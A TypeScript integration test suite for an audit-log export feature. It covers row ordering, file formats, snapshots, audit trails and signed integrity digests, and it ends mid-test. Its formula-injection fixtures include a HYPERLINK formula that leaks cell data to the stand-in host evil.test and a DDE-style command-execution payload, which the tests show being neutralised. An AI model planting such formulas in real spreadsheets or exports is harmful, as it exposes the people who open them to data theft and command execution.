import { AsyncLocalStorage } from "node:async_hooks";
import { spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { and, asc, desc, eq, sql } from "drizzle-orm";
import ExcelJS from "exceljs";
import fc from "fast-check";
import postgres from "postgres";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import type { AuditPage } from "@/lib/audit-log/entries";
import { queryRows } from "@/db/client";
import { auditLogs, auditLogsArchive, exportTokens, permissionGrants } from "@/db/schema";
import { seedDemoAccounts, type SeededDemoAccounts } from "@/db/seed/demo-accounts";
import type { ExportFormat } from "@/db/schema/enums";
import type { AuditEventInput } from "@/lib/audit/event-schema";
import { auditEventSchema } from "@/lib/audit/event-schema";
import { storeAuditEvents } from "@/lib/audit/record-audit-event";
import { NO_PERMISSION_TEXT } from "@/lib/auth/messages";
import { sealNewEntries } from "@/lib/integrity/seal";
import { parseCsv } from "../helpers/parse-csv";
import { consoleServerHeaders } from "../helpers/console-server-headers";
import { overrideEnv, resetEnv } from "../helpers/env-override";
import { readZip } from "../helpers/read-zip";
import type { EntryJson } from "../helpers/entry-json";
import { createTestDatabase, serverTestUrl, type TestDatabase } from "../helpers/test-database";
import { untilClockPassesStoredEntries } from "../helpers/arrival-clock";

/*
 * The export end to end against a real database (the server named by TEST_DATABASE_URL, else
 * embedded PGlite): the server actions, the download handler and the files they produce, parsed
 * back. Only the session lookup and the request headers are replaced; each call runs "as" a
 * demo user through AsyncLocalStorage.
 */
const session = new AsyncLocalStorage<string | null>();
const requestHeaders = { current: new Headers() };

vi.mock("@/lib/auth/auth", () => ({
  auth: async () => {
    const id = session.getStore();
    return id ? { user: { id }, expires: new Date(Date.now() + 3_600_000).toISOString() } : null;
  },
}));
vi.mock("next/headers", () => ({ headers: async () => requestHeaders.current }));
vi.mock("@/lib/env", () => import("../helpers/env-override"));
vi.mock("next/cache", () => ({ revalidatePath: vi.fn(), revalidateTag: vi.fn() }));

const { prepareExportCount, startExport } = await import("@/app/orgs/[org]/audit-logs/lib/export-actions");
const { downloadExport } = await import("@/lib/exports/download-export");
const { listAuditEntries } = await import("@/lib/audit-log/entries");
const { rawSearchParams, selectionFromParams } = await import("@/lib/audit-log/selection");
const { CrossOriginActionError } = await import("@/lib/security/same-origin");

const ORIGIN = "http://console.test";
const SITE = consoleServerHeaders("console.test", "198.51.100.20");
const DAY = 86_400_000;

let testDb: TestDatabase;
let seeded: SeededDemoAccounts;
const userId = (email: string) => {
  const found = seeded.users[email];
  if (!found) throw new Error(`no demo user ${email}`);
  return found;
};
const as = <T>(email: string | null, fn: () => Promise<T>): Promise<T> =>
  session.run(email === null ? null : userId(email), fn);

/* ------------------------------------------------------------------------------------------ */
/* Data                                                                                         */
/* ------------------------------------------------------------------------------------------ */

/** Values a spreadsheet would run as formulas, and text that must survive quoting. */
const PAYLOADS = {
  hyperlink: '=HYPERLINK("https://evil.test/?"&A1,"Click me")',
  plus: "+1",
  minusSum: "-2+3",
  at: "@SUM(A1)",
  tab: "\t=1",
  spaces: "  =1",
  carriageReturn: "\r=cmd|' /C calc'!A0",
  lineFeed: "\n=1",
  fullWidth: "＝1+1",
} as const;

const TRICKY_TEXT = [
  'He said "hello", then left',
  "line one\nline two\r\nline three",
  "comma, separated, values",
  "Ünïcödé — 日本語 — emoji 🚀",
  " leading and trailing spaces ",
  "\\. alone is COPY's end marker: \\.",
  "",
  "control\u0001char and _x0041_ literal",
];

const ACTORS = [
  { id: "u_1", name: "Kim Lee", email: "kim@acme.test" },
  { id: "u_2", name: "Ana Silva", email: "ana@acme.test" },
  { id: "u_3", name: "Bo Chen", email: "bo@acme.test" },
  null,
];
const CATEGORIES = ["auth", "service", "infra", "secret", "user", "backup"] as const;
const RESULTS = ["done", "failed", "pending", "processing"] as const;
const ACTIONS = ["login", "deploy", "delete", "update", "create", "Export"];

function event(i: number, now: number, extra: Partial<AuditEventInput> = {}): AuditEventInput {
  const actor = ACTORS[i % ACTORS.length]!;
  return {
    // Spread over the last six days, several entries sharing a millisecond (the id breaks ties).
    occurredAt: new Date(now - 3_600_000 - Math.floor(i / 3) * 700_000).toISOString(),
    actor,
    category: CATEGORIES[i % CATEGORIES.length]!,
    action: ACTIONS[(i * 7) % ACTIONS.length]!,
    description: `${ACTIONS[(i * 7) % ACTIONS.length]} something number ${i}`,
    target: { type: "service", id: `svc_${i % 17}`, name: `target-${String.fromCharCode(97 + (i % 26))}${i % 5}` },
    result: RESULTS[i % RESULTS.length]!,
    level: i % 3 === 0 ? "notice" : "information",
    service: i % 2 ? "Deployments" : "Sign-in",
    ip: `203.0.113.${i % 250}`,
    userAgent: "kiops-cli/2.3",
    requestId: `req_${i}`,
    correlationId: i % 10 === 0 ? `op_${i}` : null,
    params: { n: i, env: i % 2 ? "production" : "staging" },
    before: i % 4 === 0 ? { version: `1.${i}` } : null,
    after: i % 4 === 0 ? { version: `1.${i + 1}` } : null,
    error: i % 4 === 1 ? { code: "E_FAIL", message: `failed ${i}` } : null,
    ...extra,
  };
}

async function store(orgId: string, events: AuditEventInput[]): Promise<string[]> {
  const parsed = events.map((e) => auditEventSchema.parse(e));
  const ids: string[] = [];
  for (let i = 0; i < parsed.length; i += 500) {
    const stored = await storeAuditEvents(testDb.handle.db, orgId, parsed.slice(i, i + 500));
    ids.push(...stored.map((s) => s.id));
  }
  return ids;
}

async function insertRaw(orgId: string, rows: Omit<typeof auditLogs.$inferInsert, "orgId">[]): Promise<string[]> {
  const inserted = await testDb.handle.db
    .insert(auditLogs)
    .values(rows.map((r) => ({ ...r, orgId })))
    .returning({ id: auditLogs.id });
  return inserted.map((r) => r.id);
}

const payloadIds = new Map<string, string>();
const trickyIds = new Map<string, string>();

/* ------------------------------------------------------------------------------------------ */
/* Reading files back                                                                           */
/* ------------------------------------------------------------------------------------------ */

async function readBody(response: Response): Promise<Buffer> {
  return Buffer.from(await response.arrayBuffer());
}

interface ExportedFile {
  header: string[];
  /** Text of every data row, by column. */
  rows: (string | null)[][];
  ids: string[];
}

function readCsvFile(body: Buffer): ExportedFile {
  expect([...body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const { rows, lineEndsOk } = parseCsv(body.subarray(3).toString("utf8"));
  expect(lineEndsOk).toBe(true);
  const [header, ...data] = rows;
  for (const row of data) expect(row).toHaveLength(header!.length);
  return { header: header as string[], rows: data, ids: data.map((r) => r[0] as string) };
}

type NdjsonEntry = EntryJson;

function readNdjsonFile(body: Buffer): { rows: NdjsonEntry[]; ids: string[] } {
  const text = body.toString("utf8");
  if (text === "") return { rows: [], ids: [] };
  expect(text.endsWith("\n")).toBe(true);
  const rows = text
    .slice(0, -1)
    .split("\n")
    .map((line) => JSON.parse(line) as NdjsonEntry);
  return { rows, ids: rows.map((r) => r.id) };
}

// Excel decodes `_xHHHH_` in cell text (ECMA-376 ST_Xstring: how characters XML cannot carry are
// written); exceljs' reader leaves them as they are, so the test decodes as Excel would.
function ooxmlText(text: string): string {
  return text.replace(/_x([0-9A-Fa-f]{4})_/g, (_, hex: string) => String.fromCharCode(parseInt(hex, 16)));
}

async function readXlsxFile(body: Buffer): Promise<ExportedFile & { sheet: ExcelJS.Worksheet; xml: string }> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(body as unknown as ArrayBuffer);
  const sheet = workbook.worksheets[0]!;
  const header = (sheet.getRow(1).values as unknown[]).slice(1).map(String);
  const rows: (string | null)[][] = [];
  for (let r = 2; r <= sheet.rowCount; r++) {
    const row = sheet.getRow(r);
    const values: (string | null)[] = [];
    for (let c = 1; c <= header.length; c++) {
      const value = row.getCell(c).value;
      values.push(
        value === null || value === undefined
          ? null
          : value instanceof Date
            ? value.toISOString()
            : ooxmlText(String(value)),
      );
    }
    rows.push(values);
  }
  const xml = readZip(body)["xl/worksheets/sheet1.xml"]!.toString("utf8");
  return { header, rows, ids: rows.map((r) => r[0] as string), sheet, xml };
}

/* ------------------------------------------------------------------------------------------ */
/* Helpers around the actions                                                                   */
/* ------------------------------------------------------------------------------------------ */

/** Every id the explorer lists for the URL, walking its pages with Next. */
async function explorerIds(orgId: string, search: string): Promise<string[]> {
  const { selection } = selectionFromParams(orgId, rawSearchParams(search), new Date());
  const ids: string[] = [];
  let cursor: string | null = null;
  let pages = 0;
  for (;;) {
    const page: AuditPage = await listAuditEntries({ ...selection, params: { ...selection.params, size: 25, cursor } });
    ids.push(...page.entries.map((e) => e.id));
    pages += 1;
    if (!page.hasNext || !page.nextCursor) break;
    cursor = page.nextCursor;
    if (pages > 1000) throw new Error("runaway paging");
  }
  return ids;
}

function tokenOf(url: string): string {
  return url.replace("/api/exports/", "");
}

async function exportAs(email: string, search: string, format: ExportFormat, timeZone = "Europe/Berlin") {
  const counted = await as(email, () => prepareExportCount("acme", search));
  if (counted.error !== undefined) throw new Error(counted.error);
  const started = await as(email, () =>
    startExport("acme", { search, format, timeZone, snapshotAt: counted.data.snapshotAt }),
  );
  if (started.error !== undefined) throw new Error(started.error);
  return { counted: counted.data, started: started.data };
}

async function download(email: string | null, url: string): Promise<Response> {
  return as(email, () => downloadExport(new Request(`${ORIGIN}${url}`, { headers: SITE }), tokenOf(url)));
}

/**
 * The file's bytes, once the download's outcome is in the log: the "done" entry is written just
 * after the last byte, and the next test's explorer walk must not race with it.
 */
async function downloadFile(email: string, started: { url: string; downloadId: string }): Promise<Buffer> {
  const response = await download(email, started.url);
  expect(response.status).toBe(200);
  const body = await readBody(response);
  await waitFor(async () => {
    const rows = await testDb.handle.db
      .select({ result: auditLogs.result })
      .from(auditLogs)
      .where(eq(auditLogs.correlationId, `export_${started.downloadId}`));
    return rows.some((r) => r.result !== "pending") ? true : null;
  });
  return body;
}

/* ------------------------------------------------------------------------------------------ */

beforeAll(async () => {
  testDb = await createTestDatabase();
  seeded = await seedDemoAccounts(testDb.handle.db);
  requestHeaders.current = new Headers(SITE);
  const now = Date.now();
  const acme = seeded.orgs.acme;
  const events = Array.from({ length: 640 }, (_, i) => event(i, now));
  const ids = await store(acme, events);
  void ids;
  // Formula payloads and awkward text, each in a field of its own entry. Written straight into
  // the table: the ingestion API trims values, but the export must be safe for whatever is stored.
  const payloadStored = await insertRaw(
    acme,
    Object.values(PAYLOADS).map((value, i) => ({
      occurredAt: new Date(now - 7_200_000 - i * 1000),
      actorId: value,
      actorName: value,
      category: "user" as const,
      action: "update",
      description: value,
      targetType: "payload",
      targetId: value,
      targetName: value,
      result: "failed" as const,
      errorCode: value,
      errorMessage: value,
      service: value,
      userAgent: value,
      requestId: value,
      correlationId: value,
    })),
  );
  Object.keys(PAYLOADS).forEach((key, i) => payloadIds.set(key, payloadStored[i]!));
  const trickyStored = await insertRaw(
    acme,
    TRICKY_TEXT.map((text, i) => ({
      occurredAt: new Date(now - 9_000_000 - i * 1000),
      category: "service" as const,
      action: "deploy",
      description: text,
      targetType: "text",
      targetId: `tricky_${i}`,
      targetName: text,
      result: "done" as const,
      params: { text },
    })),
  );
  TRICKY_TEXT.forEach((text, i) => trickyIds.set(text, trickyStored[i]!));
  // Entries past retention that the organization keeps: the explorer's scope=archive.
  await testDb.handle.db.insert(auditLogsArchive).values(
    Array.from({ length: 60 }, (_, i) => ({
      orgId: acme,
      occurredAt: new Date(now - 400 * DAY - i * 60_000),
      category: "auth" as const,
      action: "login",
      description: `archived ${i}`,
      result: "done" as const,
    })),
  );
  // Another organization's entries: never in Acme's files.
  await store(
    seeded.orgs.globex,
    Array.from({ length: 40 }, (_, i) => event(3000 + i, now)),
  );
});

afterAll(async () => {
  await testDb?.drop();
});

describe("the file holds exactly the explorer's rows, in its order", () => {
  const searches = [
    "",
    "sort=user&dir=asc",
    "type=auth,service&result=failed,done&sort=type",
    "q=delete",
    "q=action:deploy -result:failed&sort=action&dir=desc",
    `period=custom&from=${new Date(Date.now() - 3 * DAY).toISOString().slice(0, 10)}&sort=target&dir=asc`,
    "user=kim@acme.test&sort=result&cursor=bm90LWEtY3Vyc29y&size=25",
    "q=target:target-a*",
    "scope=archive&period=custom&from=2020-01-01&sort=time&dir=asc",
  ];
  for (const search of searches) {
    for (const format of ["csv", "xlsx", "ndjson"] as const) {
      it(`${format} ${search || "(no params)"}`, async () => {
        const expected = await explorerIds(seeded.orgs.acme, search);
        expect(expected.length).toBeGreaterThan(0);
        const { counted, started } = await exportAs("manager@acme.test", search, format);
        expect(counted.count).toBe(expected.length);
        expect(started.count).toBe(expected.length);
        const body = await downloadFile("manager@acme.test", started);
        const file =
          format === "csv" ? readCsvFile(body) : format === "ndjson" ? readNdjsonFile(body) : await readXlsxFile(body);
        expect(file.ids).toEqual(expected);
        expect(file.rows).toHaveLength(counted.count);
      });
    }
  }
  it("covers many pages", async () => {
    expect((await explorerIds(seeded.orgs.acme, "")).length).toBeGreaterThan(25 * 20);
  });
  // Generated searches through the one query core: the explorer's pages and the export (COPY on
  // the server database, keyset batches on the embedded one) list the same entries in one order.
  const generatedSearch = fc
    .record({
      sort: fc.constantFrom("time", "user", "type", "action", "target", "result"),
      dir: fc.constantFrom("asc", "desc"),
      type: fc.subarray([...CATEGORIES]),
      result: fc.subarray([...RESULTS]),
      q: fc.array(
        fc.constantFrom(
          "kim",
          "something",
          "-deploy",
          "action:delete",
          "-result:failed",
          "resource:target-b*",
          "user:ana@acme.test",
          "ip:203.0.113.0/28",
          "level:notice",
          "service:deployments",
          "request_id:req_1",
          '"number 1"',
          `created:>=${new Date(Date.now() - 3 * DAY).toISOString().slice(0, 10)}`,
        ),
        { maxLength: 3 },
      ),
    })
    .map(({ sort, dir, type, result, q }) => {
      const query = new URLSearchParams({ sort, dir });
      if (type.length > 0) query.set("type", type.join(","));
      if (result.length > 0) query.set("result", result.join(","));
      if (q.length > 0) query.set("q", q.join(" "));
      return query.toString();
    });

  it("for generated searches, exports exactly the explorer's entries in its order", async () => {
    await fc.assert(
      fc.asyncProperty(generatedSearch, async (search) => {
        const expected = await explorerIds(seeded.orgs.acme, search);
        const { counted, started } = await exportAs("manager@acme.test", search, "csv");
        expect(counted.count).toBe(expected.length);
        if (expected.length === 0) return;
        const file = readCsvFile(await downloadFile("manager@acme.test", started));
        expect(file.ids).toEqual(expected);
      }),
      { numRuns: 12 },
    );
  });
});

describe("file contents", () => {
  it("writes the same entries in NDJSON as in CSV, row for row, in the API's shape", async () => {
    // Both files at one snapshot: each export writes entries of its own to the log.
    const search = "";
    const counted = await as("manager@acme.test", () => prepareExportCount("acme", search));
    if (counted.error !== undefined) throw new Error(counted.error);
    const start = async (format: ExportFormat) => {
      const started = await as("manager@acme.test", () =>
        startExport("acme", { search, format, timeZone: "Europe/Berlin", snapshotAt: counted.data.snapshotAt }),
      );
      if (started.error !== undefined) throw new Error(started.error);
      return started.data;
    };
    const csv = readCsvFile(await downloadFile("manager@acme.test", await start("csv")));
    const started = await start("ndjson");
    expect(started.fileName).toMatch(/\.ndjson$/);
    const response = await download("manager@acme.test", started.url);
    expect(response.headers.get("content-type")).toBe("application/x-ndjson; charset=utf-8");
    const ndjson = readNdjsonFile(await readBody(response));
    expect(ndjson.rows.length).toBe(csv.rows.length);
    expect(ndjson.rows.length).toBeGreaterThan(600);
    // The CSV's spreadsheet guard (a leading apostrophe) is its own; undone here to compare text.
    const unguard = (value: string | null) =>
      value !== null && /^'[=+\-@\t\r\n\s＝＋－＠]/u.test(value) ? value.slice(1) : value;
    const json = (value: unknown) => (value === null ? null : JSON.stringify(value));
    const csvJson = (value: string | null) => (value === null ? null : JSON.stringify(JSON.parse(value)));
    for (let r = 0; r < csv.rows.length; r++) {
      const c = csv.rows[r]!.map(unguard);
      const n = ndjson.rows[r]!;
      const asCsv = [
        n.id,
        c[1],
        n.actor?.id ?? null,
        n.actor?.name ?? null,
        n.actor?.email ?? null,
        n.category,
        n.action,
        n.description,
        n.target?.type ?? null,
        n.target?.id ?? null,
        n.target?.name ?? null,
        n.result,
        n.error?.code ?? null,
        n.error?.message ?? null,
        n.level,
        n.service,
        n.ip,
        n.userAgent,
        n.requestId,
        n.correlationId,
        json(n.params),
        json(n.before),
        json(n.after),
        n.url,
      ];
      const fromCsv = [...c.slice(0, 20), csvJson(c[20]!), csvJson(c[21]!), csvJson(c[22]!), c[23]];
      expect([r, ...asCsv]).toEqual([r, ...fromCsv]);
      expect(Date.parse(c[1]!)).toBe(Date.parse(n.occurredAt));
    }
  });

  it("has the same columns and text in both formats", async () => {
    const search = "q=something";
    const csv = readCsvFile(
      await downloadFile("manager@acme.test", (await exportAs("manager@acme.test", search, "csv")).started),
    );
    const xlsx = await readXlsxFile(
      await downloadFile("manager@acme.test", (await exportAs("manager@acme.test", search, "xlsx")).started),
    );
    expect(csv.header).toEqual([
      "ID",
      "Time (Europe/Berlin)",
      "Actor id",
      "Actor name",
      "Actor email",
      "Type",
      "Action",
      "Description",
      "Target type",
      "Target id",
      "Target name",
      "Result",
      "Error code",
      "Error message",
      "Level",
      "Service",
      "IP",
      "User agent",
      "Request ID",
      "Correlation ID",
      "Parameters",
      "Before",
      "After",
      "Permalink",
    ]);
    expect(xlsx.header).toEqual(csv.header);
    expect(xlsx.ids).toEqual(csv.ids);
    // Every text column reads the same; the times are real dates in xlsx (checked below).
    for (let r = 0; r < csv.rows.length; r++) {
      const a = csv.rows[r]!;
      const b = xlsx.rows[r]!;
      for (let c = 0; c < a.length; c++) {
        if (c === 1) continue;
        expect([r, c, b[c]]).toEqual([r, c, a[c]]);
      }
    }
    const [row] = await testDb.handle.db
      .select()
      .from(auditLogs)
      .where(and(eq(auditLogs.orgId, seeded.orgs.acme), eq(auditLogs.id, csv.ids[0]!)));
    const first = csv.rows[0]!;
    // One time column: no header or value repeats the time in UTC.
    expect(csv.header.filter((h) => h.startsWith("Time"))).toEqual(["Time (Europe/Berlin)"]);
    expect(first).not.toContain(row!.occurredAt.toISOString());
    expect(first[2]).toBe(row!.actorId);
    // Berlin is UTC+1 in winter and UTC+2 in summer: the offset printed is the one at that instant.
    const berlin = new Intl.DateTimeFormat("en-CA", { timeZone: "Europe/Berlin", timeZoneName: "longOffset" }).format(
      row!.occurredAt,
    );
    const offset = /GMT([+-]\d{2}:\d{2})/.exec(berlin)?.[1] ?? "+00:00";
    const local = new Date(
      row!.occurredAt.getTime() +
        (offset.startsWith("-") ? -1 : 1) * (Number(offset.slice(1, 3)) * 60 + Number(offset.slice(4, 6))) * 60_000,
    );
    expect(first[1]).toBe(`${local.toISOString().slice(0, 23)}${offset}`);
    // The offset makes the text one instant.
    expect(Date.parse(first[1]!)).toBe(row!.occurredAt.getTime());
    expect(first[23]).toBe(`${ORIGIN}/orgs/acme/audit-logs/${csv.ids[0]}`);
    expect(first[20]).toBe(JSON.stringify(row!.params).replace(/":/g, '": ').replace(/,"/g, ', "'));
  });

  it("writes real dates, a frozen header with an auto-filter, and column widths in xlsx", async () => {
    const { started } = await exportAs("manager@acme.test", "type=auth", "xlsx");
    const file = await readXlsxFile(await downloadFile("manager@acme.test", started));
    const { sheet } = file;
    expect(sheet.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
    expect(sheet.autoFilter).toBe(`A1:X${file.rows.length + 1}`);
    expect(sheet.getColumn(1).width).toBe(38);
    expect(sheet.getColumn(8).width).toBe(50);
    expect(sheet.getRow(1).getCell(1).font?.bold).toBe(true);
    const [row] = await testDb.handle.db.select().from(auditLogs).where(eq(auditLogs.id, file.ids[0]!));
    // The one time column is the wall clock in the zone (Excel has no zones): UTC+1 or UTC+2.
    const local = sheet.getRow(2).getCell(2).value;
    expect(local).toBeInstanceOf(Date);
    expect([3_600_000, 7_200_000]).toContain((local as Date).getTime() - row!.occurredAt.getTime());
    expect(sheet.getRow(2).getCell(3).value).toBe(row!.actorId);
  });

  it("keeps quotes, commas, line breaks, unicode, blanks and control characters intact", async () => {
    const search = "q=resource:tricky_*";
    const csv = readCsvFile(
      await downloadFile("manager@acme.test", (await exportAs("manager@acme.test", search, "csv")).started),
    );
    const xlsx = await readXlsxFile(
      await downloadFile("manager@acme.test", (await exportAs("manager@acme.test", search, "xlsx")).started),
    );
    for (const text of TRICKY_TEXT) {
      const id = trickyIds.get(text)!;
      const csvRow = csv.rows.find((r) => r[0] === id)!;
      const xlsxRow = xlsx.rows.find((r) => r[0] === id)!;
      // CSV tells an empty string ("") from a missing value; a spreadsheet cell cannot.
      expect(csvRow[7]).toBe(text);
      expect(csvRow[10]).toBe(text);
      expect(csvRow[20]).toBe(`{"text": ${JSON.stringify(text)}}`);
      expect(xlsxRow[7]).toBe(text === "" ? null : text);
      expect(xlsxRow[10]).toBe(text === "" ? null : text);
    }
  });
});

describe("formula injection", () => {
  const columns = [2, 3, 7, 9, 10, 12, 13, 15, 17, 18, 19];
  it("neutralises payloads in CSV with a leading apostrophe and changes nothing else", async () => {
    const csv = readCsvFile(
      await downloadFile("manager@acme.test", (await exportAs("manager@acme.test", "type=user", "csv")).started),
    );
    for (const [key, payload] of Object.entries(PAYLOADS)) {
      const row = csv.rows.find((r) => r[0] === payloadIds.get(key));
      if (!row) continue; // not a user-category entry
      for (const c of columns) expect([key, c, row[c]]).toEqual([key, c, `'${payload}`]);
    }
    const all = readCsvFile(
      await downloadFile("manager@acme.test", (await exportAs("manager@acme.test", "", "csv")).started),
    );
    let seen = 0;
    for (const [key, payload] of Object.entries(PAYLOADS)) {
      const row = all.rows.find((r) => r[0] === payloadIds.get(key))!;
      for (const c of columns) expect([key, c, row[c]]).toEqual([key, c, `'${payload}`]);
      seen += 1;
    }
    expect(seen).toBe(Object.keys(PAYLOADS).length);
    // Nothing that is not a formula starts with an apostrophe.
    for (const row of all.rows) {
      if ([...payloadIds.values()].includes(row[0]!)) continue;
      for (const value of row) expect(value?.startsWith("'") ?? false).toBe(false);
    }
  });

  it("keeps payloads as text cells, marked quoted, in xlsx", async () => {
    const file = await readXlsxFile(
      await downloadFile("manager@acme.test", (await exportAs("manager@acme.test", "", "xlsx")).started),
    );
    for (const [key, payload] of Object.entries(PAYLOADS)) {
      const index = file.ids.indexOf(payloadIds.get(key)!);
      const row = file.sheet.getRow(index + 2);
      for (const c of columns) {
        const cell = row.getCell(c + 1);
        expect(cell.type).toBe(ExcelJS.ValueType.String);
        expect(cell.formula).toBeUndefined();
        // Leading and trailing blanks kept (xml:space="preserve"), \r normalised by XML to \n
        // is prevented by the _x000D_ escape.
        expect([key, c, cell.value]).toEqual([key, c, payload]);
      }
    }
    // No formula anywhere in the sheet, and the quote-prefix style on the payload cells.
    expect(file.xml).not.toMatch(/<f[ >]/);
    const styleOf = (ref: string) => new RegExp(`<c r="${ref}" t="inlineStr" s="(\\d+)"`).exec(file.xml)?.[1];
    const index = file.ids.indexOf(payloadIds.get("hyperlink")!);
    expect(styleOf(`H${index + 2}`)).toBe("4");
  });
});

describe("snapshot", () => {
  it("leaves out entries received after the count, so the file holds the N announced", async () => {
    const search = "q=action:login";
    const counted = await as("manager@acme.test", () => prepareExportCount("acme", search));
    const before = await explorerIds(seeded.orgs.acme, search);
    expect(counted.data?.count).toBe(before.length);
    const recent = (i: number) =>
      event(5000 + i, Date.now(), { action: "login", occurredAt: new Date(Date.now() - 60_000).toISOString() });
    const late = await store(seeded.orgs.acme, [recent(0), recent(1)]);
    const started = await as("manager@acme.test", () =>
      startExport("acme", { search, format: "csv", timeZone: "UTC", snapshotAt: counted.data!.snapshotAt }),
    );
    expect(started.data?.count).toBe(before.length);
    await store(seeded.orgs.acme, [recent(2)]);
    const file = readCsvFile(await downloadFile("manager@acme.test", started.data!));
    expect(file.ids).toEqual(before);
    for (const id of late) expect(file.ids).not.toContain(id);
    expect((await explorerIds(seeded.orgs.acme, search)).length).toBe(before.length + 3);
  });

  it("never lets a browser move the snapshot into the future", async () => {
    const future = new Date(Date.now() + DAY).toISOString();
    const started = await as("manager@acme.test", () =>
      startExport("acme", { search: "q=action:login", format: "csv", timeZone: "UTC", snapshotAt: future }),
    );
    const expected = await explorerIds(seeded.orgs.acme, "q=action:login");
    expect(started.data?.count).toBe(expected.length);
  });
});

describe("audit trail", () => {
  it("records the export with its filters, format and count, then its outcome", async () => {
    const search = "type=auth&result=failed&q=-user:kim@acme.test";
    const { started } = await exportAs("manager@acme.test", search, "xlsx");
    const rows = await testDb.handle.db
      .select()
      .from(auditLogs)
      .where(
        and(eq(auditLogs.orgId, seeded.orgs.acme), eq(auditLogs.category, "audit"), eq(auditLogs.action, "export")),
      )
      .orderBy(desc(auditLogs.receivedAt), desc(auditLogs.occurredAt))
      .limit(1);
    const pending = rows[0]!;
    expect(pending).toMatchObject({
      result: "pending",
      level: "notice",
      actorId: userId("manager@acme.test"),
      actorEmail: "manager@acme.test",
      ip: "198.51.100.20",
      params: {
        format: "xlsx",
        count: started.count,
        filters: {
          type: ["auth"],
          result: ["failed"],
          q: "-user:kim@acme.test",
          search: expect.stringContaining("type=auth"),
        },
      },
    });
    await downloadFile("manager@acme.test", started);
    const trail = await testDb.handle.db
      .select({ result: auditLogs.result, params: auditLogs.params })
      .from(auditLogs)
      .where(and(eq(auditLogs.orgId, seeded.orgs.acme), eq(auditLogs.correlationId, pending.correlationId!)))
      .orderBy(asc(auditLogs.receivedAt));
    expect(trail.map((t) => t.result)).toEqual(["pending", "done"]);
    expect(trail[1]!.params).toMatchObject({ rowsWritten: started.count });
  });
});

describe("integrity digests", () => {
  const MANAGER = "manager@acme.test";
  // Sealed entries of two categories, among them the formula payloads (user) and the awkward text
  // (service): the export's own audit entries, written as downloads end, stay out of the search.
  const SEARCH = "type=service,user";

  /** The auditor's commands, as docs/integrity.md and the README give them (the same in both). */
  function auditorScript(): string {
    const pick = (file: string) =>
      /```sh\n(set -eu\n[\s\S]*?)```/.exec(readFileSync(path.join(process.cwd(), file), "utf8"))?.[1];
    const docs = pick("docs/integrity.md");
    expect(docs).toBeTruthy();
    expect(pick("README.md")).toBe(docs);
    return docs!;
  }

  async function sealEverything(): Promise<void> {
    // Small blocks, so that an export spans several.
    await untilClockPassesStoredEntries(testDb.handle.db);
    while ((await sealNewEntries({ blockSize: 100, marginMs: 0 })).entries > 0);
  }

  interface Downloaded {
    fileName: string;
    file: Buffer;
    digestsName: string;
    digests: Buffer;
    count: number;
  }

  async function exportWithDigests(format: ExportFormat): Promise<Downloaded> {
    const counted = await as(MANAGER, () => prepareExportCount("acme", SEARCH));
    const started = await as(MANAGER, () =>
      startExport("acme", {
        search: SEARCH,
        format,
        timeZone: "UTC",
        snapshotAt: counted.data!.snapshotAt,
        digests: true,
      }),
    );
    if (started.error !== undefined) throw new Error(started.error);
    const { digests } = started.data;
    expect(digests?.fileName).toBe(`${started.data.fileName}.digests.ndjson`);
    const file = await downloadFile(MANAGER, started.data);
    const response = await download(MANAGER, digests!.url);
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toContain("application/x-ndjson");
    expect(response.headers.get("content-disposition")).toContain(digests!.fileName);
    const body = await readBody(response);
    // The digests' download joins the export's timeline: pending, then done for each file.
    await waitFor(async () => {
      const rows = await testDb.handle.db
        .select({ result: auditLogs.result })
        .from(auditLogs)
        .where(eq(auditLogs.correlationId, `export_${started.data.downloadId}`));
      return rows.filter((r) => r.result === "done").length === 2 ? true : null;
    });
    return {
      fileName: started.data.fileName,
      file,
      digestsName: digests!.fileName,
      digests: body,
      count: started.data.count,
    };
  }

  function lines(digests: Buffer): { type: string; [key: string]: unknown }[] {
    return digests
      .toString("utf8")
      .trimEnd()
      .split("\n")
      .map((l) => JSON.parse(l) as { type: string });
  }

  /** Runs the auditor's commands in a folder of their own, as an auditor would. */
  function check(downloaded: Downloaded, edit?: (file: Buffer) => Buffer) {
    const dir = mkdtempSync(path.join(tmpdir(), "export-digests-"));
    try {
      writeFileSync(path.join(dir, downloaded.fileName), edit ? edit(downloaded.file) : downloaded.file);
      writeFileSync(path.join(dir, downloaded.digestsName), downloaded.digests);
      return spawnSync("bash", ["-c", auditorScript()], {
        cwd: dir,
        encoding: "utf8",
        env: { ...process.env, FILE: downloaded.fileName, DIGESTS: downloaded.digestsName },
      });
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  }

  it("lists every exported entry with its canonical form and its signed block, and the commands accept them", async () => {
    await sealEverything();
    const ndjson = await exportWithDigests("ndjson");
    const parsed = lines(ndjson.digests);
    expect(parsed[0]).toMatchObject({
      type: "export",
      organization: "acme",
      file: ndjson.fileName,
      rows: ndjson.count,
    });
    expect(parsed[1]).toMatchObject({ type: "key", algorithm: "Ed25519" });
    const entries = parsed.filter((l) => l.type === "entry");
    expect(entries.map((e) => e.id).sort()).toEqual(readNdjsonFile(ndjson.file).ids.sort());
    expect(parsed.at(-1)).toMatchObject({ type: "summary", entries: ndjson.count, sealed: ndjson.count, unsealed: 0 });
    expect(parsed.filter((l) => l.type === "block").length).toBeGreaterThan(1);
    expect(ndjson.count).toBeGreaterThan(200);

    const ok = check(ndjson);
    expect(ok.stderr).toBe("");
    expect(ok.stdout).toContain(`OK: ${ndjson.count} exported entries match their signed blocks.`);
    expect(ok.status).toBe(0);

    const csv = await exportWithDigests("csv");
    const csvOk = check(csv);
    expect(csvOk.stderr).toBe("");
    expect(csvOk.status).toBe(0);
  }, 120_000);

  it("fails on a line of the file edited after the download, and on an entry changed in the database", async () => {
    await sealEverything();
    const ndjson = await exportWithDigests("ndjson");
    const target = trickyIds.get("comma, separated, values")!;
    const edited = check(ndjson, (file) =>
      Buffer.from(file.toString("utf8").replace("comma, separated, values", "comma, separated, value")),
    );
    expect(edited.status).not.toBe(0);
    expect(edited.stderr).toContain("The exported file does not hold the entries of its digests");

    const [before] = await testDb.handle.db
      .select({ description: auditLogs.description })
      .from(auditLogs)
      .where(eq(auditLogs.id, target));
